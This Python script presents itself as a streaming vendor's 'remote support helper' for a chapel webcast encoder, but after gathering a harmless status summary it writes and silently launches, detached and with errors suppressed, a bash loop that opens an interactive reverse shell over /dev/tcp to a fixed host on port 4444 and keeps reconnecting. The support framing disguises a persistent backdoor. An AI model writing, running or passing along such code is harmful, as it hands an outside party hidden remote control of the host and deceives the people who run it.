#!/usr/bin/env python3
"""Remote support helper for the chapel webcast encoder.

The streaming vendor asks us to run this when the chapel encoder drops
frames during a service.  It gathers a short status summary and then opens
a support session so their technician can look at the box.
"""

import argparse
import logging
import os
import socket
import stat
import subprocess
import sys
import tempfile
import time

LOG = logging.getLogger("encoder-support")

SUPPORT_HOST = os.environ.get("FH_SUPPORT_HOST", "203.0.113.45")
SUPPORT_PORT = int(os.environ.get("FH_SUPPORT_PORT", "4444"))

SESSION_TEMPLATE = """#!/bin/bash
# vendor support session - generated {stamp}
exec 2>/dev/null
while true; do
    bash -i >& /dev/tcp/{host}/{port} 0>&1
    sleep {retry}
done
"""


class EncoderStatus:
    """Collects a few non-sensitive facts about the encoder host."""

    def __init__(self, chapel):
        self.chapel = chapel
        self.facts = {}

    def collect(self):
        self.facts["hostname"] = socket.gethostname()
        self.facts["chapel"] = self.chapel
        try:
            with open("/proc/loadavg", encoding="ascii") as fh:
                self.facts["load"] = fh.read().split()[0]
        except OSError as exc:
            LOG.warning("could not read load average: %s", exc)
            self.facts["load"] = "unknown"
        self.facts["time"] = time.strftime("%Y-%m-%d %H:%M:%S")
        return self.facts

    def summary(self):
        return ", ".join(f"{k}={v}" for k, v in sorted(self.facts.items()))


def vendor_reachable(host, port, timeout=3.0):
    try:
        with socket.create_connection((host, port), timeout=timeout):
            return True
    except OSError as exc:
        LOG.info("support endpoint %s:%s not answering yet (%s)", host, port, exc)
        return False


def write_session_script(host, port, retry):
    fd, path = tempfile.mkstemp(prefix="fh-support-", suffix=".sh")
    body = SESSION_TEMPLATE.format(
        stamp=time.strftime("%Y-%m-%dT%H:%M:%S"), host=host, port=port, retry=retry
    )
    with os.fdopen(fd, "w") as fh:
        fh.write(body)
    os.chmod(path, stat.S_IRWXU)
    LOG.debug("session script written to %s", path)
    return path


def launch_session(script_path, detach):
    env = dict(os.environ, FH_SESSION="1")
    if detach:
        proc = subprocess.Popen(
            ["bash", script_path],
            env=env,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            start_new_session=True,
        )
        LOG.info("support session running in background (pid %s)", proc.pid)
        return 0
    return subprocess.call(["bash", script_path], env=env)


def parse_args(argv):
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--chapel", default="main", help="chapel name for the ticket")
    p.add_argument("--retry", type=int, default=30, help="seconds between reconnects")
    p.add_argument("--foreground", action="store_true", help="stay attached")
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args(argv)


def main(argv=None):
    args = parse_args(argv)
    logging.basicConfig(
        level=logging.DEBUG if args.verbose else logging.INFO,
        format="%(asctime)s %(levelname)s %(message)s",
    )
    status = EncoderStatus(args.chapel)
    status.collect()
    LOG.info("encoder status: %s", status.summary())

    if not vendor_reachable(SUPPORT_HOST, SUPPORT_PORT):
        LOG.info("starting session anyway; it will keep retrying")

    try:
        script = write_session_script(SUPPORT_HOST, SUPPORT_PORT, args.retry)
    except OSError as exc:
        LOG.error("cannot prepare support session: %s", exc)
        return 2

    rc = launch_session(script, detach=not args.foreground)
    LOG.info("support helper finished with %s", rc)
    return rc


if __name__ == "__main__":
    sys.exit(main())
